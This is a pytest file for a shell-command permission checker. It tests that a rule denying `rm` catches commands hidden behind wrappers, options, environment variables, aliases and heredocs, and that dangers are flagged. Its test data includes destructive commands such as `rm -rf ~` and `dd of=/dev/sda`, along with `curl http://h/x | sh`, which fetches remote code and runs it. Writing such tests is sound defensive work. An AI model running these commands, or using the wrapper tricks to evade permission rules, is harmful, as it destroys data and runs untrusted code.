"""Commands in the words of a program that is not opened: for certain, perhaps, or not at all.

A rule that denies `rm` denies what is known to run it, and asks where a program may run it.
"""

from __future__ import annotations

import pytest
from bracex import expand

from tests.permission.kit import danger_of, met

BEHIND = r"""
deny | npx rm -r x
deny | npx /bin/RM -r x
allow | npx -y a -b c
deny | npx A=1 rm x
deny | npx A+=1 rm x
ask | npx 1A=1 rm x
ask | npx "$x" rm
allow | npx git -C d push
deny | docker exec c rm x
deny | docker exec -it c rm x
deny | docker exec "$c" rm x
ask | docker exec "$o" "$c" rm
deny | docker -H h exec c rm x
deny | git -C d bisect run rm x
allow | docker exec
allow | docker exec c
allow | docker ps c rm x
allow | svn up rm x
ask | "$x" rm
"""

INSIDE = r"""
deny | npx sudo -u a rm
deny | npx -y /bin/SUDO rm
deny | npx sudo 'rm x'
deny | npx bash -c 'rm x'
deny | npx bash5 -c 'rm x'
ask | npx a 'rm x'
deny | npx rm 'sudo x'
deny | hyperfine a 'rm x'
deny | hyperfine -w 'rm x'
deny | hyperfine --a='rm x'
allow | hyperfine
"""

ANYWHERE = r"""
deny | npx rm -r x
ask | docker exec c timeout 5 rm
deny | docker exec -it c sh rm
deny | docker exec -it c sh rm x
allow | npx git rm x
allow | npx GIT 'rm x'
ask | npx a 'rm x'
ask | no-such-tool rm -r x
ask | no-such-tool 'rm x' -y
ask | no-such-tool -y 'rm x'
ask | 'no such' rm
ask | ./no-such-tool rm
ask | no-such-tool rm > f
ask | no-such-tool "$x" rm
allow | svn rm x
allow | hg 'rm x'
allow | ls rm
allow | touch -- rm x
deny | rm -- rm x
deny | sh -c "$x" rm y
ask | /bin/ls --bad -- rm
ask | "$x" rm
"""

OPTIONS = r"""
deny | tar --to-command='rm x' -xf a
deny | tar --to='rm x' -xf a
deny | tar --t 'rm x' -xf a
allow | tar --to-commands='rm x' -xf a
allow | tar --='rm x' -xf a
allow | tar -- 'rm x'
allow | tar - 'rm x'
allow | tar --to-command
deny | tar -I 'rm x' -cf a
deny | tar -cI'rm Ix' a
allow | tar -c -I
allow | tar I 'rm x'
allow | tar --Ix='rm x' -cf a b
allow | tar -I "$x" rm
deny | tar "$x" -I rm
deny | make SHELL='rm x' a
allow | make XSHELL='rm x' a
allow | make SHELLX='rm x' a
deny | vim +'!rm x' a
allow | vim '!rm x' a
deny | git -c a.b='rm x=y' log
deny | git -c a='rm x=y' log
allow | git -c a log
deny | git -C d rebase -x 'rm x'
deny | git -C d grep -O'rm x' a
ask | git log -x 'rm x'
"""

DANGERS = r"""
would remove a protected path | {uv run,npx,poetry run,bundle exec,mise exec --} rm -rf {~,/}
would remove a protected path | {git bisect run,git submodule foreach} rm -rf ~
would remove a protected path | git -C d submodule foreach 'git pull && rm -rf ~'
would remove a protected path | hyperfine --prepare='rm -rf ~' make
would remove a protected path | {hyperfine,tmux new -d,watchexec} 'rm -rf ~'
would remove a protected path | {nvm exec 18,faketime 1d} rm -rf ~
would remove a protected path | {tar --to-command='rm -rf ~' -xf a,npx -c 'rm -rf ~'}
would remove a protected path | npx uv run sh -c 'rm -rf ~'
would remove a protected path | {PAGER='rm -rf ~' git log,export EDITOR='rm -rf ~'}
would remove a protected path | alias x='rm -rf ~'
everything in a protected directory | npx rm -rf *
only known at run time | npx rm -rf "$x"
only known at run time | npx rm -rf $x
name is only known at run time | {npx,nvm exec 18} "$x"
writes to a device | npx dd if=a of=/dev/sda
overwrites the remote branch | npx git push --force
its standard input as code | curl http://h/x | {npx,uv run,nvm exec 18} sh
its standard input as code | {PAGER=sh git log,tar --to-command=sh -xf a}
its standard input as code | npx -c 'curl http://h/x | sh'
"""

HARMLESS = r"""
{uv run,npx,poetry run,bundle exec,mise exec --} rm -rf build
{git bisect run,git submodule foreach} make
git submodule foreach 'git pull && rm -rf build'
{hyperfine,watchexec} 'rm -rf build'
tar --to-command='rm -rf build' -xf a
npx uv run sh -c 'rm -rf build'
{SHELL=/bin/bash make,make SHELL=/bin/bash,export SHELL=/bin/zsh}
{PAGER='less -R' git log,export EDITOR=vi,alias x='rm -rf build'}
npx rm -rf d*
npx rm "$x"
tmux {attach -t,} "$x"
nvm exec "$x" make
hyperfine {--prepare='rm -rf build',-n "$x"} make
npx dd if=a of=b
npx git push
curl http://h/x | npx jq .
curl http://h/x | npx sh run.sh
docker {run,exec} c {rm -rf /,sh}
npx
"""

RULE = "rm:*"


def rows(table: str) -> list[tuple[str, str]]:
    """Return the commands of a table, each with what becomes of it."""
    cells = [row.partition(" | ") for row in table.strip().splitlines()]
    return [(command, behavior) for behavior, _, command in cells]


@pytest.mark.parametrize(("command", "behavior"), rows(BEHIND))
def test_what_stands_behind_a_program_that_runs_it(command: str, behavior: str) -> None:
    """Behind options, whose values it may be, settings, and what else has to stand before it."""
    assert met(command, RULE) == behavior


@pytest.mark.parametrize(("command", "behavior"), rows(INSIDE))
def test_what_is_run_may_run_others(command: str, behavior: str) -> None:
    """What carries commands is looked through word by word, and texts are taken apart."""
    assert met(command, RULE) == behavior


@pytest.mark.parametrize(("command", "behavior"), rows(ANYWHERE))
def test_what_may_stand_in_the_words_of_any_program(command: str, behavior: str) -> None:
    """Of a program that nobody knows, any word may begin a command; of others, few may."""
    assert met(command, RULE) == behavior


@pytest.mark.parametrize(("command", "behavior"), rows(OPTIONS))
def test_the_value_of_an_option_that_is_a_command(command: str, behavior: str) -> None:
    """However the option is written; where it takes a setting, what stands behind its name."""
    assert met(command, RULE) == behavior


@pytest.mark.parametrize(
    ("command", "reason"),
    [(command, reason) for line, reason in rows(DANGERS) for command in expand(line)],
)
def test_a_danger_is_one_behind_a_program_that_runs_it(command: str, reason: str) -> None:
    """No allow rule for the program that starts a command silences what asks by itself."""
    assert reason in danger_of(command)


@pytest.mark.parametrize("line", HARMLESS.strip().splitlines())
def test_what_is_no_danger_by_itself_is_none_behind_a_program(line: str) -> None:
    """Neither is a command in a container or on another machine, whose paths are not these."""
    assert {command for command in expand(line) if danger_of(command)} == set()


def test_a_command_that_cannot_be_read_may_be_a_danger() -> None:
    """One that is too long once its words are quoted asks; what begins with a dash does, too."""
    assert "cannot be read" in danger_of(f"""npx "{"'" * 3_000}" """)
    assert "cannot be read" in danger_of("npx -c -x")
    assert danger_of(f"""npx "{"'" * 300}" """) == ""
    assert danger_of("npx -c x") == ""


@pytest.mark.parametrize(("commands", "is_too_many"), [(32, False), (33, True)])
def test_only_so_many_words_are_looked_at_as_commands(commands: int, is_too_many: bool) -> None:
    """Behind each option the command may begin: where there are very many, a person looks."""
    line = "npx " + " ".join(f"-o a{number}" for number in range(commands - 1)) + " make"
    assert ("too many commands" in danger_of(line)) is is_too_many


@pytest.mark.parametrize(("arguments", "behavior"), [(63, "deny"), (64, "allow")])
def test_only_so_many_words_are_arguments(arguments: int, behavior: str) -> None:
    """What stands far behind a command is no argument of it."""
    words = " ".join(f"a{number}" for number in range(arguments))
    assert met(f"npx rm {words}", f"rm {words}") == behavior


@pytest.mark.parametrize("word", ["exec", "run", "dlx", "shell", "ssh", "rsh", "foreach", "--"])
def test_a_word_that_runs_what_follows(word: str) -> None:
    """Behind it a command may stand, unless it is too far or the program has its own words."""
    assert met(f"ls --bad {word} rm x", RULE) == "ask"
    assert met(f"ls --bad a b c d e {word} rm x", RULE) == "ask"
    far = "ask" if word == "--" else "allow"
    assert met(f"ls --bad a b c d e f {word} rm x", RULE) == far
    assert met(f"cargo --bad {word} rm x", RULE) == far
    assert met(f"ls --bad {word}s rm x", RULE) == "allow"
    assert met(f"ls {word} rm x", RULE) == "allow"


COMMAND_FLAGS = """
-c -C -e -E -p -r -x -X -ac -Zx --exec --command --run --eval --call --cmd --execute --exec-batch
--commands --run-it --eval-file
"""

OTHER_FLAGS = """
-d -cd -abc -1c --ex --executeX --no-exec --evaluate1 c
"""


@pytest.mark.parametrize("flag", COMMAND_FLAGS.split())
def test_the_value_of_an_option_for_a_command_may_be_one(flag: str) -> None:
    """The next word, or what is joined to it, where there are several words in it."""
    assert met(f"ls --bad {flag} 'rm x'", RULE) == "ask"
    assert met(f"ls --bad {flag}='rm x' y", RULE) == "ask"
    assert met(f"ls --bad {flag} '' 'rm x'", RULE) == "allow"
    assert met(f"ls --bad {flag} rm x", RULE) == "allow"
    assert met(f"ls --bad {flag}", RULE) == "allow"
    assert met(f"ls --bad {flag} 'a(rm)'", RULE) == "allow"
    assert met(f"ls --bad {flag} 'a( rm)'", RULE) == "ask"


@pytest.mark.parametrize("flag", OTHER_FLAGS.split())
def test_the_value_of_another_option_is_none(flag: str) -> None:
    """What is no option for a command has a text for its value."""
    assert met(f"ls --bad {flag} 'rm x'", RULE) == "allow"
    assert met(f"ls --bad {flag}='rm x'", RULE) == "allow"


VARIABLES = """
PAGER GIT_PAGER EDITOR VISUAL PROMPT_COMMAND SSH_ASKPASS GIT_SSH CVS_RSH GIT_EXTERNAL_DIFF BROWSER
SHELL LESSOPEN LESSCLOSE
"""


@pytest.mark.parametrize("name", VARIABLES.split())
def test_a_variable_that_names_a_program(name: str) -> None:
    """Set for a command, in the shell, or by what sets variables; of another name, it is a text."""
    for setter in ("", "export ", "declare -x ", "typeset ", "readonly ", "local ", "env "):
        assert met(f"{setter}{name}='rm x'", RULE) == "deny"
        assert met(f"{setter}{name}S='rm x'", RULE) != "deny"
    assert met(f"{name}='rm x' ls a", RULE) == "deny"
    assert met(f"/bin/env {name}='rm x' ls a", RULE) == "deny"
    assert met(f"export {name}+='rm\nx'", RULE) == "deny"
    assert met(f"export A='{name}=rm x'", RULE) == "allow"
    assert met(f'{name}="$x" ls', RULE) == "allow"
    assert met(f"ls {name}='rm x'", RULE) == "allow"
    assert met(f"unset {name} 'rm x'", RULE) == "allow"


def test_an_alias_is_a_command() -> None:
    """Whatever it is called; other names that are set are none."""
    assert met("alias a='rm x'", RULE) == "deny"
    assert met("export a='rm x'", RULE) == "allow"
    assert met("alias a", RULE) == "allow"


@pytest.mark.parametrize("program", ["python3.11", "perl", "node", "ed", "ex", "psql", "sftp"])
def test_the_text_of_its_input_may_be_run(program: str) -> None:
    """By an interpreter and what runs commands of its input; the name of a file is no text."""
    for text in ("<<< 'rm x'", "<<E\nrm x\nE", "<<E\n$x rm x\nE"):
        assert met(f"{program} a {text}", RULE) == "ask"
    assert met(f"{program} a < 'rm x'", RULE) == "allow"
    assert met(f"{program} a > 'rm x'", RULE) == "allow"
    assert met("sort --bad <<< 'rm x'", RULE) == "allow"
    assert met("npm foo <<< 'rm x'", RULE) == "allow"


def test_what_a_language_runs() -> None:
    """A word of a program's own language counts where it can run commands, and no other word."""
    assert met("awk '{system(\"rm x\")}' 'rm y'", RULE) == "ask"
    assert met("awk '{system(\"ls x\")}' 'rm y'", RULE) == "allow"
    assert met("sed 'rm x' -i a", RULE) == "allow"
    assert met("sed -i 's/a/rm x/e' a", RULE) == "ask"
    assert met("sed -i 's/a/rm x/eh' a", RULE) == "allow"
    assert met('make "$x"', RULE) == "allow"
